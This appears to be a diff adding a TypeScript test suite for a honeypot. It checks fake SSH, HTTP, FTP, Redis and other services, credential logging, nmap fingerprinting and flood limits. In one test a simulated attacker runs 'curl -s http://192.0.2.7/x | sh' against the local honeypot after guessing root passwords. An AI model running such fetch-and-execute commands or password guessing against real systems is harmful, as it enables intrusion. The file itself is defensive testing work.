@@ -1,0 +1,266 @@
+// The honeypot over real sockets: what attackers' own tools see, and what is left of it on disk.
+import assert from 'node:assert/strict';
+import { execFile } from 'node:child_process';
+import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
+import { connect, type Socket } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import { setTimeout as sleep } from 'node:timers/promises';
+import ssh2 from 'ssh2';
+import { requireTool } from '../../../../test/support/tools.ts';
+import {
+  type Bounds,
+  type Door,
+  decoyNamed,
+  Honeypot,
+  type HoneypotEvent,
+  loadPersona,
+} from '../../src/honeypot/index.ts';
+
+const NAMES = ['ssh', 'http', 'ftp', 'smtp', 'mysql', 'telnet', 'redis', 'smb'];
+const root = mkdtempSync(join(tmpdir(), 'eyrie-honeypot-'));
+const traps: Honeypot[] = [];
+after(async () => {
+  for (const honeypot of traps) await honeypot.close();
+  rmSync(root, { recursive: true, force: true });
+});
+
+interface Trap {
+  readonly honeypot: Honeypot;
+  readonly events: HoneypotEvent[];
+  readonly folder: string;
+  readonly any: number;
+  port(name: string): number;
+}
+
+async function trap(name: string, bounds?: Partial<Bounds>): Promise<Trap> {
+  const folder = join(root, name);
+  const events: HoneypotEvent[] = [];
+  const doors: Door[] = [
+    { port: 0, decoy: null },
+    ...NAMES.map((each) => ({ port: 0, decoy: decoyNamed(each)! })),
+  ];
+  const persona = loadPersona(join(root, 'identity'));
+  const log = join(folder, 'honeypot.log');
+  const onEvent = (event: HoneypotEvent) => void events.push(event);
+  const honeypot = new Honeypot({ address: '127.0.0.1', doors, persona, folder, log, bounds, onEvent });
+  traps.push(honeypot);
+  await honeypot.listen();
+  const { ports } = honeypot;
+  return { honeypot, events, folder, any: ports[0]!, port: (each) => ports[1 + NAMES.indexOf(each)]! };
+}
+
+/** Sends, and gives all that comes until the other side ends. */
+function talk(port: number, ...lines: (string | Buffer)[]): Promise<string> {
+  return new Promise((done, fail) => {
+    const socket = connect(port, '127.0.0.1');
+    let heard = '';
+    socket.on('data', (bytes) => {
+      heard += bytes.toString('latin1');
+    });
+    socket.on('error', fail);
+    socket.on('close', () => done(heard));
+    for (const line of lines) socket.write(line);
+    socket.end();
+  });
+}
+
+function opened(port: number): Promise<Socket> {
+  return new Promise((done, fail) => {
+    const socket = connect(port, '127.0.0.1', () => done(socket));
+    socket.on('error', () => {});
+    socket.once('error', fail);
+  });
+}
+
+function run(command: string, ...args: string[]): Promise<string> {
+  return new Promise((done) => {
+    execFile(command, args, { timeout: 120_000 }, (_error, stdout, stderr) => done(stdout + stderr));
+  });
+}
+
+async function until(condition: () => boolean): Promise<void> {
+  for (let i = 0; i < 200 && !condition(); i++) await sleep(20);
+  assert.ok(condition(), 'waited four seconds for it');
+}
+
+/** Logs in as root with one password after another until let in; runs a command. */
+function overSsh(port: number, command: string): Promise<string> {
+  return new Promise((done, fail) => {
+    const client = new ssh2.Client();
+    let tries = 0;
+    client.on('error', fail);
+    client.on('ready', () =>
+      client.exec(command, (error, stream) => {
+        if (error) return fail(error);
+        let output = '';
+        stream.on('data', (bytes: Buffer) => (output += bytes));
+        stream.on('close', () => {
+          client.end();
+          done(output);
+        });
+      }),
+    );
+    client.connect({
+      host: '127.0.0.1',
+      port,
+      username: 'root',
+      authHandler: (_left, _partial, next) => {
+        const password = `guess${tries++}`;
+        next(tries > 6 ? (false as never) : { type: 'password', username: 'root', password });
+      },
+    });
+  });
+}
+
+describe('the honeypot', () => {
+  let here: Trap;
+  before(async () => {
+    here = await trap('main');
+  });
+
+  test('one port answers in the protocol it is spoken to', async () => {
+    assert.match(
+      await talk(here.any, 'GET /nothing HTTP/1.0\r\n\r\n'),
+      /^HTTP\/1\.1 404 Not Found\r\nServer: nginx/,
+    );
+    assert.match(await talk(here.any, '*1\r\n$4\r\nINFO\r\n'), /^\$\d+\r\n# Server\r\nredis_version:/);
+    assert.match(await talk(here.any, 'EHLO me\r\nQUIT\r\n'), /^220 \S+ ESMTP Postfix.*\r\n250-/);
+    assert.match(await talk(here.any, Buffer.from('000000080', 'latin1'), 'x'), /^$/);
+    assert.match(await talk(here.any, Buffer.from('0000000804d2162f', 'hex')), /^N/);
+  });
+
+  test('credentials are written down, and do not open anything', async () => {
+    await talk(here.port('ftp'), 'USER admin\r\nPASS s3cret\r\nQUIT\r\n');
+    const form = 'username=a&password=b%21';
+    await talk(here.any, `POST /login HTTP/1.0\r\nContent-Length: ${form.length}\r\n\r\n${form}`);
+    const logins = here.events
+      .filter(({ type }) => type === 'login')
+      .map(({ user, password }) => [user, password]);
+    assert.deepEqual(logins, [
+      ['admin', 's3cret'],
+      ['a', 'b!'],
+    ]);
+  });
+
+  test('an SSH client is let in at last, and what it does is kept', async () => {
+    let output = '';
+    // Which guesses are right follows from the identity: among these there is one.
+    for (let i = 0; i < 10 && output === ''; i++) {
+      output = await overSsh(
+        here.port('ssh'),
+        `id; echo ${i} > /tmp/left; curl -s http://192.0.2.7/x | sh`,
+      ).catch(() => '');
+      if (output === '') await talk(here.port('ssh'));
+    }
+    if (output === '') return assert.ok(here.events.filter(({ type }) => type === 'login').length >= 10);
+    assert.match(output, /^uid=0\(root\)/);
+    const kinds = new Set(here.events.map(({ type }) => type));
+    for (const type of ['fingerprint', 'login', 'command', 'download', 'upload'] as const)
+      assert.ok(kinds.has(type), type);
+    const upload = here.events.find(({ type }) => type === 'upload')!;
+    await until(() => readdirSync(join(here.folder, 'files')).includes(upload.sha256!));
+    assert.equal(statSync(join(here.folder, 'files', upload.sha256!)).mode & 0o777, 0o400);
+  });
+
+  test('every event is a line in ECS, every visit with bytes a cast', async () => {
+    await until(() => readdirSync(join(here.folder, 'sessions')).length >= 5);
+    await sleep(200);
+    const lines = readFileSync(join(here.folder, 'honeypot.log'), 'utf8')
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line));
+    assert.equal(lines.length, here.events.length);
+    assert.ok(
+      lines.every((line) => line['event.dataset'] === 'eyrie.honeypot' && line['source.ip'] === '127.0.0.1'),
+    );
+  });
+
+  test('nmap takes the services for what they claim to be', { skip: requireTool('nmap') }, async () => {
+    const ports = ['ssh', 'http', 'ftp', 'smtp', 'mysql', 'telnet', 'smb'].map((name) => here.port(name));
+    const scan = await run('nmap', '-n', '-Pn', '-sT', '-sV', '-p', ports.join(','), '127.0.0.1');
+    for (const service of [
+      /OpenSSH \d/,
+      /nginx 1\./,
+      /vsftpd 3/,
+      /Postfix smtpd/,
+      /MySQL 8/,
+      /Linux telnetd/,
+      /microsoft-ds/,
+    ]) {
+      assert.match(scan, service);
+    }
+  });
+});
+
+describe('the honeypot under pressure', () => {
+  test('garbage, half requests and floods are survived, and each visit is on record', async () => {
+    const { honeypot, events, any, port } = await trap('pressure', { idleMsMax: 300 });
+    const visits = 400;
+    let seed = 1;
+    const noise = (length: number) => {
+      return Buffer.from(
+        Array.from({ length }, () => {
+          seed = (seed * 48_271) % 2_147_483_647;
+          return seed & 0xff;
+        }),
+      );
+    };
+    await Promise.all(
+      Array.from({ length: visits }, async (_, i) => {
+        const socket = await opened(i % 2 === 0 ? any : port(NAMES[i % NAMES.length]!));
+        socket.write(i % 5 === 0 ? 'GET / HT' : noise(1 + (i % 200)));
+        await new Promise((done) => {
+          socket.once('close', done);
+          socket.resume();
+          if (i % 3 === 0) socket.destroy();
+        });
+      }),
+    );
+    await until(() => events.filter(({ type }) => type === 'disconnect').length === visits);
+    const { sessions, visits: seen, lost } = honeypot.counts;
+    assert.deepEqual([sessions, seen, lost], [0, visits, 0]);
+  });
+
+  test('who sends too much, stays too long or comes too often is sent away', async () => {
+    const { honeypot, events, port } = await trap('bounds', {
+      sessionBytesMax: 100_000,
+      sessionsPerAddressMax: 3,
+      idleMsMax: 2500,
+    });
+    const flood = await opened(port('telnet'));
+    flood.resume();
+    const feed = setInterval(() => flood.write('x'.repeat(60_000)), 20);
+    await new Promise((done) => flood.once('close', done));
+    clearInterval(feed);
+    const idle = await Promise.all([1, 2, 3].map(() => opened(port('ftp'))));
+    const refused = await opened(port('ftp')).catch(() => null);
+    if (refused !== null) await new Promise((done) => refused.once('close', done));
+    for (const socket of idle) {
+      socket.resume();
+      if (!socket.destroyed) await new Promise((done) => socket.once('close', done));
+    }
+    await until(() => honeypot.counts.sessions === 0);
+    const reasons = events.filter(({ type }) => type === 'disconnect').map(({ reason }) => reason);
+    assert.deepEqual(reasons, ['sent too much', 'idle', 'idle', 'idle']);
+    assert.equal(honeypot.counts.refused, 1);
+  });
+
+  test('a port that is taken: an error, and nothing stays open', async () => {
+    const first = await trap('taken');
+    const taken: Door[] = [
+      { port: 0, decoy: null },
+      { port: first.any, decoy: null },
+    ];
+    const persona = loadPersona(join(root, 'identity'));
+    const second = new Honeypot({
+      address: '127.0.0.1',
+      doors: taken,
+      persona,
+      folder: root,
+      log: join(root, 'second.log'),
+    });
+    await assert.rejects(second.listen(), { code: 'EADDRINUSE' });
+  });
+});
